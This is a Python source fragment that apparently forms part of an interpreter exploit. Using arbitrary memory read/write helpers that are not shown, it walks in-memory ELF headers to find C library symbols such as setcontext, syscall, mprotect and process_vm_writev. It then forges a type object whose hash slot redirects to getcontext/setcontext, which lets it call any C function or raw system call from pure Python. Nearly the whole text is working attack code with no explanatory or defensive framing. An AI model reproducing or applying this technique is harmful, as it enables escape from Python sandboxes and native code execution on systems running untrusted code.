# Calls into the C library without machine code of our own: a forged type whose hash function is setcontext loads every
# register, and the address to go on at, from a forged object.
def _text_at(address):
    said = bytes(memory[address : address + 64])
    return said.partition(b"\0")[0].decode("latin-1")


def _base_of(address):
    address &= ~0xFFF
    while bytes(memory[address : address + 4]) != b"\x7fELF":
        address -= 4096
    return address


class _Library:
    """One loaded binary, read from where it lies in memory."""

    def __init__(self, inside):
        base = _base_of(inside)
        self.load = base if struct.unpack_from("<H", memory, base + 16)[0] == 3 else 0
        headers, count = base + word(base + 32), struct.unpack_from("<H", memory, base + 56)[0]
        for header in range(headers, headers + 56 * count, 56):
            if struct.unpack_from("<I", memory, header)[0] == 2:
                self.dynamic = {}
                at = self.load + word(header + 16)
                while word(at):
                    self.dynamic[word(at)] = word(at + 8)
                    at += 16

    def place(self, tag):
        value = self.dynamic[tag]
        return value if value >= self.load else value + self.load

    def name(self, number):
        return _text_at(self.place(5) + struct.unpack_from("<I", memory, self.place(6) + 24 * number)[0])

    def borrowed(self):
        """Yield the functions that it takes from others, and where the loader found them."""
        for tag, size in ((23, 2), (7, 8)):
            if tag in self.dynamic:
                for at in range(self.place(tag), self.place(tag) + self.dynamic[size], 24):
                    if word(at + 8) >> 32:
                        yield self.name(word(at + 8) >> 32), word(self.load + word(at))

    def offered(self):
        for number in range(1, (self.place(5) - self.place(6)) // 24):
            address = word(self.place(6) + 24 * number + 8)
            if address:
                yield self.name(number), self.load + address


def _find_symbols(wanted):
    """Start from a function of the interpreter; what it borrows leads to the C library, which offers the rest."""
    own = _Library(word(word(id(len) + 16) + 8))
    for name, address in own.borrowed():
        if name in ("getenv", "strtol", "malloc", "free", "read", "write", "memchr", "strlen", "setlocale", "getpid"):
            found = {name: place for name, place in _Library(address).offered() if name in wanted}
            if "setcontext" in found:
                return found
    raise RuntimeError("no C library found")


SYMBOLS = _find_symbols(
    {"setcontext", "getcontext", "syscall", "process_vm_readv", "process_vm_writev", "mmap", "mprotect"}
)
_type = struct.pack("<QQ", 1 << 40, id(type)) + bytes(600)
_object = struct.pack("<QQ", 1 << 40, id(_type) + 32) + bytes(2000)
_forged, _kept3, _kept4 = _object_at(id(_object) + 32)


def library_call(name, *arguments):
    """Call a function of the C library with up to six whole numbers."""
    hash_slot, context = id(_type) + 32 + 120, id(_object) + 32

    def steps():
        # The first time the registers are stored as they are here; the second time all are as then but the arguments.
        write_word(hash_slot, SYMBOLS["getcontext"])
        yield _forged
        for place, value in zip((104, 112, 136, 152, 40, 48), (*arguments, *[0] * (6 - len(arguments)))):
            write_word(context + place, value)
        write_word(context + 160, word(context + 160) - 8)
        write_word(context + 168, SYMBOLS[name])
        write_word(hash_slot, SYMBOLS["setcontext"])
        yield _forged

    try:
        return list(map(hash, steps()))[1]
    except SystemError:
        return -1


def system_call(number, *arguments):
    """Enter the kernel; -1 says that it refused."""
    return library_call("syscall", number, *arguments)
